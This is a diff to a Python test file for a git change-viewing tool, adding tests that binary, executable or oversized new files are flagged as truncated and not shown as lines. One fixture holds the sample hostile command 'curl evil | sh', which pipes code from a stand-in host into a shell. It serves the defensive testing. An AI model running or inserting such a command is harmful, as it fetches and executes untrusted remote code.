@@ -64,6 +64,32 @@ def test_a_binary_file_is_marked_and_weighed(tmp_path: Path) -> None:
     ]
 
 
+@pytest.mark.parametrize("name", ["deploy.sh", "a.bin", "logo.png.sh", "png"])
+def test_new_content_that_git_cannot_show_as_lines_was_not_shown(
+    tmp_path: Path, name: str
+) -> None:
+    found = change(tmp_path, {name: "echo\n"}, {name: b"echo\ncurl evil | sh\n#\0\n"})
+    (file,) = found["files"]
+    assert (file["binary"], file["hunks"]) == (True, [])
+    assert file["truncated"]
+    assert found["truncated"]
+
+
+def test_a_picture_needs_no_lines_unless_it_can_be_run(tmp_path: Path) -> None:
+    assert not change(tmp_path / "a", {"x": "x\n"}, {"logo.PNG": b"\x89PNG\0"})["truncated"]
+    made = repository(tmp_path / "b", {"logo.png": b"\x89PNG\0"})
+    (made / "logo.png").chmod(0o755)
+    commit(made, "Draw", {"x": "y\n"})
+    with open_repository(str(made)).reading() as view:
+        trees = [git(made, "rev-parse", f"{name}^{{tree}}") for name in ("HEAD~1", "HEAD")]
+        assert difference(view, *trees)["truncated"]
+
+
+def test_a_binary_file_that_goes_away_hides_nothing(tmp_path: Path) -> None:
+    found = change(tmp_path, {"a.bin": b"\0", "z": "z\n"}, {"a.bin": None, "z": "z\n"})
+    assert not found["truncated"]
+
+
 def test_bytes_that_are_not_utf8_and_late_nul_bytes_stay_visible(tmp_path: Path) -> None:
     late = b"x" * 9000 + b"\n\0 after\n"
     found = change(tmp_path, {"a": "a\n"}, {"a": b"caf\xe9\n", "late": late})
@@ -115,7 +141,7 @@ def test_a_file_that_becomes_a_link_shows_both_sides(tmp_path: Path) -> None:
 def test_a_huge_file_is_weighed_instead_of_shown(tmp_path: Path) -> None:
     found = change(tmp_path, {"a": "a\n"}, {"huge.txt": b"0123456789\n" * 900_000, "z": "z\n"})
     huge, other = found["files"]
-    assert (huge["binary"], huge["new_size"]) == (True, 9_900_000)
+    assert (huge["binary"], huge["new_size"], huge["truncated"]) == (True, 9_900_000, True)
     assert other["hunks"]
 
 
